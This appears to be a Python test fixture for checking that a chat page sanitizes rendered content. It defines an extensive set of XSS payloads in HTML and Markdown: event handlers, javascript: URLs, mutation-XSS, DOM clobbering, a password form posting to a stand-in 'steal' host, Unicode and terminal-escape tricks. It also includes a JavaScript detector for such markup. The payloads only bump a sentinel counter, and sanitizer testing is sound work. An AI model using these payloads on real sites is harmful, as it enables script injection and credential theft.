"""Hostile text that tries to run code, and a script that finds dangerous markup in a page."""

from __future__ import annotations

RUN = "window.sentinel=(window.sentinel||0)+1"
ELSEWHERE = "http://elsewhere.invalid"
MARKUP = f"""
<script>{RUN}</script><script src="{ELSEWHERE}/x.js"></script>
<img src=x onerror="{RUN}"><img src="{ELSEWHERE}/pixel.png"><img srcset="{ELSEWHERE}/a.png 1x">
<svg onload="{RUN}"><script>{RUN}</script><a xlink:href="javascript:{RUN}"><text>svg</text></a>
<animate attributeName=href values="javascript:{RUN}" /><foreignObject><iframe srcdoc="<script>{RUN}</script>">
</iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style>
<img title="--><img src=1 onerror={RUN}>"></mglyph></table></mtext></math>
<iframe src="javascript:{RUN}"></iframe><iframe srcdoc="<script>parent.{RUN}</script>"></iframe>
<object data="javascript:{RUN}"></object><embed src="{ELSEWHERE}/e"><base href="{ELSEWHERE}/">
<form action="{ELSEWHERE}/steal"><input name=password autofocus onfocus="{RUN}"><button formaction="javascript:{RUN}">Go
</button></form><link rel=stylesheet href="{ELSEWHERE}/s.css"><meta http-equiv=refresh content="0;url={ELSEWHERE}">
<style>* {{ display: none !important }}
@import "{ELSEWHERE}/i.css"; body {{ background: url({ELSEWHERE}/b.png) }}</style>
<div style="position:fixed;inset:0;z-index:99999;background:url({ELSEWHERE}/c.png)">over everything</div>
<details open ontoggle="{RUN}"><summary>d</summary></details><marquee onstart="{RUN}">m</marquee>
<video><source onerror="{RUN}"></video><audio src="{ELSEWHERE}/a.mp3" autoplay></audio><template><b>t</b></template>
<a id=location name=document href="data:text/html,<script>{RUN}</script>">clobbering</a>
<img name=getElementById><form name=querySelector id=fetch><input name=parentNode></form><a id=localStorage></a>
<div data-assistant-chat data-base="{ELSEWHERE}">root</div><div role=alert class=activity>fake alert</div>
<p onclick="{RUN}" onmouseover="{RUN}" tabindex=0>hover</p><dialog open>open dialog</dialog>
<a href=" &#1;javascript:{RUN}">spaced</a><a href="JaVaScRiPt:{RUN}" target=_top>cased</a>
<a ping="{ELSEWHERE}/p" href=#>p</a>
"""
MARKDOWN = f"""
[a link](javascript:{RUN}) [encoded](&#106;avascript:{RUN}) [data](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+)
[vb](vbscript:{RUN}) [file](file:///etc/passwd) [relative](//elsewhere.invalid/x) <javascript:{RUN}>
![image](javascript:{RUN}) ![pixel]({ELSEWHERE}/pixel.png)
![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
[quoted](https://a.example/"onmouseover="{RUN}) ![alt" onerror="{RUN}](x) [ref]: javascript:{RUN}

```html" onmouseover="{RUN}"
<script>{RUN}</script>
```

| <script>{RUN}</script> | `<img src=x onerror={RUN}>` |
|---|---|
| [x](javascript:{RUN}) | <img src=x onerror={RUN}> |

# <img src=x onerror={RUN}> {{#constructor}}

[^1]: <script>{RUN}</script>
"""
STRANGE = "\u202egnp.exe\u202c \u200b\u200c\u200d\ufeff \x1b[31mred\x1b[0m \x1b]8;;http://elsewhere.invalid\x07 \x7f"
LONG = "W" * 3000
ZALGO = "Z" + "\u0335\u0321\u0347" * 40
ARABIC = "مرحبا بالعالم"
WHOLE = "\n\n".join([MARKDOWN, MARKUP, STRANGE, LONG, ZALGO, ARABIC, "The end of it."])

DANGEROUS = """() => {
  const found = [];
  const address = /^(href|src|action|data)$/i;
  const acting = /^(on.*|srcdoc|formaction|ping|background|xlink:href|srcset)$/i;
  const code = /^[\\s\\u0000-\\u0020]*(javascript|vbscript|data:text|file):/i;
  const picture = /^(data:image\\/(?!svg)|blob:)/;
  for (const node of document.querySelectorAll("html *")) {
    for (const { name, value } of node.attributes) {
      const bad = acting.test(name) || (address.test(name) && code.test(value)) ||
        (node.tagName === "IMG" && name === "src" && !picture.test(value));
      if (bad) found.push(`${node.tagName} ${name}=${value.slice(0, 60)}`);
    }
  }
  const tags = "script, iframe, object, embed, base, link, meta, style, math, audio, video, dialog, marquee, template";
  const styled = "article [style*=position], article [style*=url], [data-assistant-chat] [data-assistant-chat]";
  const inside = document.querySelector("[role=log]").querySelectorAll(`${tags}, ${styled}, article form[action]`);
  for (const node of inside) found.push(`in the log: ${node.outerHTML.slice(0, 120)}`);
  for (const name of ["location", "fetch", "getElementById", "querySelector", "localStorage", "parentNode"])
    if (document.getElementById(name) || document.getElementsByName(name).length) found.push(`clobbers ${name}`);
  return found;
}"""
"""Returns a description of each dangerous element or attribute in the page."""
